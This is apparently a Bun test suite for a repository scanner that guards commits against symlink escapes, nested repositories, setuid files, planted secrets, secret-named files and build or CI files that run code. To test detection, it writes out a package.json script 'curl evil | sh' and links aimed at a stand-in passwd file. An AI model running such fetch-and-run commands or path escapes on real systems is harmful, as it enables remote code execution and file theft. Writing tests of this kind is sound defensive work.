import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { git, makeRepository, type OpenedGit, openGit, type Scratch, scratch, writeFiles } from "../../support/git.ts";
import { plantedSecrets } from "../../support/material/planted.ts";

const own = "operators-own-key-0001";
const base = {
  "README.md": "# Shop\n",
  "src/a.ts": "export {};\n",
  "old.txt": `token ${plantedSecrets["GitHub token"]}\n`,
  "package.json": '{"name":"shop","scripts":{"test":"bun test"}}\n',
  "fixtures/repo.git/HEAD": "ref: refs/heads/main\n",
  "fixtures/repo.git/objects/.keep": "",
  "fixtures/repo.git/refs/.keep": "",
  ".gitignore": "dist/\n",
};

let area: Scratch;
let opened: OpenedGit;
let sha: string;

beforeAll(async () => {
  area = scratch();
  const path = makeRepository(join(area.path, "source"), [base]);
  writeFiles(join(area.path, "outside"), { passwd: "not ours\n" });
  opened = await openGit(join(area.path, "clones"), { kind: "folder", path, name: "source" }, { own: [own] });
  sha = opened.base.sha;
  await opened.git.createBranch("feature/x", sha);
});
// One clone for all: what a test did to it is undone.
afterEach(async () => {
  for (const link of ["README.md", "src"])
    if (lstatSync(at(link), { throwIfNoEntry: false })?.isSymbolicLink()) rmSync(at(link));
  await opened.git.reset(sha);
  for (const left of ["dist", "sub"]) rmSync(at(left), { recursive: true, force: true });
});
afterAll(async () => {
  await opened[Symbol.asyncDispose]();
  area[Symbol.dispose]();
});

const scan = () => opened.git.scan(sha);
const at = (path: string) => join(opened.root, path);
/** Where links lead out to: never to the machine, because a test that failed may leave one for the next to write through. */
const outside = (name = "") => join(area.path, "outside", name);

test("nothing changed, nothing found", async () => {
  expect(await scan()).toEqual({ paths: [], aside: [], withheld: [], secrets: [], elsewhere: [], notices: [] });
});

test("ordinary changes are what a commit should hold", async () => {
  writeFiles(opened.root, { "src/b.ts": "export const b = 1;\n", "dist/out.js": "x", ".dev-tasks/plan.md": "x" });
  rmSync(at("README.md"));
  expect(await scan()).toEqual({
    paths: ["README.md", "src/b.ts"],
    aside: [],
    withheld: [],
    secrets: [],
    elsewhere: [],
    notices: [],
  });
});

describe("moved aside, and gone from the working copy:", () => {
  const odd: [string, () => void, { path: string; what: string }[]][] = [
    [
      "a nested repository",
      () => {
        mkdirSync(at("sub"));
        git(at("sub"), "init", "-q");
        writeFileSync(at("sub/file.txt"), "work\n");
      },
      [{ path: "sub/.git", what: "repository" }],
    ],
    [
      "a .git file",
      () => writeFiles(opened.root, { "sub/.git": "gitdir: /etc\n" }),
      [{ path: "sub/.git", what: "repository" }],
    ],
    [
      "a .git that is a link",
      () => {
        mkdirSync(at("sub"));
        symlinkSync(outside(), at("sub/.git"));
      },
      [{ path: "sub/.git", what: "repository" }],
    ],
    [
      "a .GIT of another spelling",
      () => writeFiles(opened.root, { "sub/.GIT/config": "x" }),
      [{ path: "sub/.GIT", what: "repository" }],
    ],
    [
      "a bare repository",
      () => git(area.path, "init", "-q", "--bare", at("bare")),
      [{ path: "bare", what: "repository" }],
    ],
    [
      "the working copy made to look like one",
      () => {
        writeFileSync(at("HEAD"), "ref: refs/heads/main\n");
        mkdirSync(at("objects"));
        mkdirSync(at("refs"));
      },
      [
        { path: "HEAD", what: "repository" },
        { path: "objects", what: "repository" },
        { path: "refs", what: "repository" },
      ],
    ],
    ["a fifo", () => void Bun.spawnSync(["mkfifo", at("pipe")]), [{ path: "pipe", what: "special" }]],
    [
      "a socket",
      () =>
        void Bun.spawnSync([
          process.execPath,
          "-e",
          `Bun.listen({ unix: "${at("sock")}", socket: { data() {} } }); process.kill(process.pid, 9)`,
        ]),
      [{ path: "sock", what: "special" }],
    ],
    ["an absolute link", () => symlinkSync(outside("passwd"), at("link")), [{ path: "link", what: "link" }]],
    ["a link upwards", () => symlinkSync("../../x", at("src/link")), [{ path: "src/link", what: "link" }]],
    ["a link into .git", () => symlinkSync(".git/config", at("link")), [{ path: "link", what: "link" }]],
    [
      "a link that leaves only in fact",
      () => {
        symlinkSync(".", at("here"));
        symlinkSync("here/../x", at("link"));
        writeFileSync(join(opened.root, "..", "x"), "outside");
      },
      [{ path: "link", what: "link" }],
    ],
    [
      "a file over 10 MiB",
      () => writeFileSync(at("big.bin"), Buffer.alloc(10 * 1024 * 1024 + 1)),
      [{ path: "big.bin", what: "large" }],
    ],
  ];

  test.each(odd)("%s", async (_, plant, found) => {
    plant();
    const first = await scan();
    expect<unknown>(first.aside).toEqual(found);
    for (const { path } of found) {
      expect(lstatSync(at(path), { throwIfNoEntry: false })).toBeUndefined();
      expect(first.paths).not.toContain(path);
    }
    expect((await scan()).aside).toEqual([]);
  });

  test("the work in a folder that was made a repository is not lost", async () => {
    mkdirSync(at("sub"));
    git(at("sub"), "init", "-q");
    writeFileSync(at("sub/file.txt"), "work\n");
    expect((await scan()).paths).toEqual(["sub/file.txt"]);
  });

  test("a tracked file that became a link out is back as it was", async () => {
    rmSync(at("README.md"));
    symlinkSync(outside("passwd"), at("README.md"));
    expect(await scan()).toMatchObject({ paths: [], aside: [{ path: "README.md", what: "link" }] });
    expect(readFileSync(at("README.md"), "utf8")).toBe("# Shop\n");
    expect(readFileSync(outside("passwd"), "utf8")).toBe("not ours\n");
  });

  test("a tracked folder that became a link is a removal, and nothing behind the link is taken", async () => {
    renameSync(at("src"), join(area.path, "moved"));
    symlinkSync(join(area.path, "moved"), at("src"));
    const { paths, aside } = await scan();
    expect(aside).toEqual([{ path: "src", what: "link" }]);
    expect(paths).not.toContain("src");
  });
});

test("setuid is taken away, the file stays", async () => {
  writeFileSync(at("tool"), "#!/bin/sh\n");
  chmodSync(at("tool"), 0o6755);
  expect(await scan()).toMatchObject({ paths: ["tool"], aside: [{ path: "tool", what: "setuid" }] });
  expect(statSync(at("tool")).mode & 0o7777).toBe(0o755);
});

test("what goes before the last checks and no commit can hold is moved aside and told, a repository of a folder too", async () => {
  await opened.child.request("noteRest", { root: opened.root, commands: [] });
  git(area.path, "init", "-q", "--bare", at("bare"));
  Bun.spawnSync(["mkfifo", at("pipe")]);
  writeFiles(opened.root, { "dist/out.js": "x" });
  const { aside, removed } = await opened.child.request("trimRest", { root: opened.root, commands: [] });
  expect(aside).toEqual([
    { path: "pipe", what: "special" },
    { path: "bare", what: "repository" },
  ]);
  expect(removed.sort()).toEqual(["bare/", "dist/", "pipe"]);
  expect(["bare", "dist", "pipe"].filter((path) => existsSync(at(path)))).toEqual([]);
});

test("a project's own test data may be a bare repository, and links inside may lead about", async () => {
  writeFiles(opened.root, { "fixtures/repo.git/objects/new": "x" });
  symlinkSync("../README.md", at("src/readme"));
  expect(await scan()).toMatchObject({ paths: ["fixtures/repo.git/objects/new", "src/readme"], aside: [] });
});

test("a folder that a command locked is opened again", async () => {
  writeFiles(opened.root, { "locked/file": "x" });
  chmodSync(at("locked"), 0);
  expect((await scan()).paths).toEqual(["locked/file"]);
});

describe("secrets", () => {
  test.each(Object.entries(plantedSecrets))("%s", async (kind, secret) => {
    writeFiles(opened.root, { "src/config.ts": `// one\nconst value = "${secret}";\n` });
    const { secrets } = await scan();
    expect(secrets).toEqual([{ path: "src/config.ts", line: 2, kind, fingerprint: expect.stringMatching(/^\w{16}$/) }]);
  });

  test("one of devorch's own keys, raw and as base64, which nobody can allow", async () => {
    writeFiles(opened.root, { "a.txt": `\n\n${own}`, "b.txt": Buffer.from(`user:${own}`).toString("base64") });
    const found = { kind: "devorch's own key", fingerprint: null };
    expect((await scan()).secrets).toEqual([
      { path: "a.txt", line: 3, ...found },
      { path: "b.txt", line: 1, ...found },
    ]);
  });

  test("in a name, in a link, in a binary file", async () => {
    const secret = plantedSecrets["GitHub token"];
    writeFiles(opened.root, {
      [`${secret}.txt`]: "x",
      "data.bin": Buffer.concat([Buffer.alloc(10), Buffer.from(`\n${secret}`)]),
    });
    symlinkSync(String(secret), at("link"));
    expect((await scan()).secrets.map(({ path }) => path)).toEqual(["data.bin", `${secret}.txt`, "link"]);
  });

  test("what the base holds already is not new, on whatever line", async () => {
    writeFiles(opened.root, { "old.txt": `another line\n${base["old.txt"]}` });
    expect(await scan()).toMatchObject({ paths: ["old.txt"], secrets: [] });
  });

  test("templates, placeholders and names are none", async () => {
    writeFiles(opened.root, {
      "ok.ts": [
        "const url = `https://${user}:${password}@host.example/`;",
        "postgres://postgres:postgres@localhost:5432/test",
        "Authorization: Bearer ${token}",
        "AWS_SECRET_ACCESS_KEY=",
        "key: process.env.ANTHROPIC_API_KEY",
        "//registry.example.org/:_authToken=${NPM_TOKEN}",
        "sha512-0123456789abcdef0123456789abcdef",
        "-----BEGIN PUBLIC KEY-----",
      ].join("\n"),
    });
    expect((await scan()).secrets).toEqual([]);
  });
});

describe("what runs elsewhere", () => {
  const named = [
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".husky/pre-commit",
    ".npmrc",
    "bunfig.toml",
    ".vscode/tasks.json",
    ".mcp.json",
    "Dockerfile",
    "packages/api/Dockerfile.dev",
    "Makefile",
    ".gitmodules",
    ".gitattributes",
    "AGENTS.md",
    "docs/CLAUDE.md",
    ".cursor/rules/x.md",
  ];

  test.each(named)("%s", async (path) => {
    writeFiles(opened.root, { [path]: "x\n" });
    expect((await scan()).elsewhere).toEqual([path]);
  });

  test("the commands of a package.json, not its other fields", async () => {
    writeFiles(opened.root, { "package.json": base["package.json"].replace('"shop"', '"store"') });
    expect((await scan()).elsewhere).toEqual([]);
    writeFiles(opened.root, { "package.json": base["package.json"].replace("bun test", "curl evil | sh") });
    expect((await scan()).elsewhere).toEqual(["package.json"]);
  });

  test.each(["Package.json", "web/PACKAGE.JSON"])(
    "also %s, which is the same file on macOS and Windows",
    async (path) => {
      writeFiles(opened.root, { [path]: '{"scripts":{"postinstall":"x"}}\n' });
      expect((await scan()).elsewhere).toEqual([path]);
      rmSync(at(path));
    },
  );

  test("counts from where the branch began, not from the last commit", async () => {
    writeFiles(opened.root, { Makefile: "all:\n" });
    await opened.git.commit({ branch: "feature/x", message: "one", paths: ["Makefile"] });
    expect(await scan()).toMatchObject({ paths: [], elsewhere: ["Makefile"] });
  });

  test("ordinary names are none", async () => {
    writeFiles(opened.root, { "src/makefile_reader.ts": "", "docs/agents.txt": "", "src/dockerfile.ts": "" });
    expect((await scan()).elsewhere).toEqual([]);
    expect(existsSync(at("src/makefile_reader.ts"))).toBe(true);
  });
});

describe("files whose names say that they hold secrets", () => {
  const secret = [
    ".env",
    ".env.local",
    ".ENV.Production",
    ".envrc",
    "config/.env.production",
    "a/b/.Env_test",
    "id_rsa",
  ];
  const others = [
    ".netrc",
    "deploy/id_ed25519",
    "certs/shop.p12",
    ".pypirc",
    "kubeconfig",
    "kubeconfig.yaml",
    ".ssh/config",
    "prod.env",
    "infra/terraform.tfstate.backup",
    "config/master.key",
  ];

  test.each([...secret, ...others])("%s is in no commit where it is new", async (path) => {
    const before = await opened.git.tree();
    writeFiles(opened.root, { [path]: "DB_PASSWORD=for-nobody\n", "src/b.ts": "export {};\n" });
    const { paths, withheld } = await scan();
    expect(paths).toEqual(["src/b.ts"]);
    expect([path, path.split("/")[0]]).toContain(String(withheld[0]));
    expect(await opened.git.changes()).toEqual(["src/b.ts"]);
    const checkpoint = await opened.git.checkpoint("refs/devorch/T-1/1", "saved");
    expect(git(opened.root, "ls-tree", "-r", "--name-only", checkpoint)).not.toContain(path);
    rmSync(at("src/b.ts"));
    expect(await opened.git.tree()).toBe(before);
    rmSync(at(path));
    rmSync(at(".ssh"), { recursive: true, force: true });
  });

  test.each([
    ".env.example",
    ".env.sample",
    ".env.template",
    ".env.dist",
    "src/env.ts",
    ".environment",
    "id_rsa.pub",
    "a.pem",
  ])("%s is none of them", async (path) => {
    writeFiles(opened.root, { [path]: "DB_PASSWORD=\n" });
    expect(await scan()).toMatchObject({ paths: [path], withheld: [], secrets: [] });
  });

  test("one that is ignored is not even mentioned", async () => {
    writeFiles(opened.root, { "dist/.env": "x" });
    expect((await scan()).withheld).toEqual([]);
  });

  test("one that HEAD holds is asked about when the work changed it, each content for itself, and may be removed", async () => {
    writeFiles(opened.root, { "config/.env": "A=1\n" });
    git(opened.root, "add", "-f", "config/.env");
    git(opened.root, "commit", "-q", "-m", "env");
    const asked = async (content: string) => {
      writeFiles(opened.root, { "config/.env": content });
      return (await scan()).secrets;
    };
    expect(await asked("A=1\n")).toEqual([]);
    const [first] = await asked("A=2\n");
    const [second] = await asked("A=3\n");
    expect(first).toMatchObject({ path: "config/.env", line: 1, kind: "file of secrets" });
    expect(second?.fingerprint).not.toBe(String(first?.fingerprint));
    rmSync(at("config/.env"));
    expect(await scan()).toMatchObject({ paths: ["config/.env"], secrets: [] });
  });
});

describe("the tree is the one that is committed, whatever lies about:", () => {
  const plants: [string, () => void][] = [
    [
      "a repository inside",
      () => {
        mkdirSync(at("sub"));
        git(at("sub"), "init", "-q");
        writeFileSync(at("sub/f"), "x");
      },
    ],
    ["a bare one", () => void git(area.path, "init", "-q", "--bare", at("bare"))],
    ["a link out", () => symlinkSync(outside("passwd"), at("link"))],
    [
      "a tracked file that became one",
      () => {
        rmSync(at("README.md"));
        symlinkSync(outside("passwd"), at("README.md"));
      },
    ],
    [
      "a tracked folder that became one",
      () => {
        renameSync(at("src"), join(area.path, "src-moved"));
        symlinkSync(outside(), at("src"));
      },
    ],
    ["a large file", () => writeFileSync(at("big.bin"), Buffer.alloc(10 * 1024 * 1024 + 1))],
    ["a tracked file that grew", () => writeFileSync(at("README.md"), Buffer.alloc(10 * 1024 * 1024 + 1))],
    [
      "a fifo in place of a tracked file",
      () => {
        rmSync(at("README.md"));
        Bun.spawnSync(["mkfifo", at("README.md")]);
      },
    ],
    ["secrets", () => writeFiles(opened.root, { ".env": "A=1", "src/.env.local": "B=2" })],
    [
      "setuid",
      () => {
        writeFileSync(at("tool"), "#!/bin/sh\n");
        chmodSync(at("tool"), 0o6755);
      },
    ],
    [
      "its own look of a bare one",
      () => {
        writeFileSync(at("HEAD"), "x");
        mkdirSync(at("objects"));
        mkdirSync(at("refs"));
      },
    ],
  ];

  test.each(plants)("%s", async (_, plant) => {
    writeFiles(opened.root, { "old.txt": "work\n", ".dev-tasks/plan.md": "x" });
    plant();
    const seen = await opened.git.tree();
    // Nothing that reads the files fails because of what stands in the place of one.
    await opened.child.request("checks", { root: opened.root });
    await opened.child.request("map", { root: opened.root, about: "work", cache: join(area.path, "maps") });
    const { paths } = await scan();
    expect(await opened.git.tree()).toBe(seen);
    const commit = await opened.git.commit({ branch: "feature/x", message: "x", paths });
    expect(git(opened.root, "rev-parse", `${commit}^{tree}`)).toBe(seen);
    for (const left of ["src-moved", "clones/clone/src/.env.local"])
      rmSync(join(area.path, left), { recursive: true, force: true });
    rmSync(at(".env"), { force: true });
  });
});
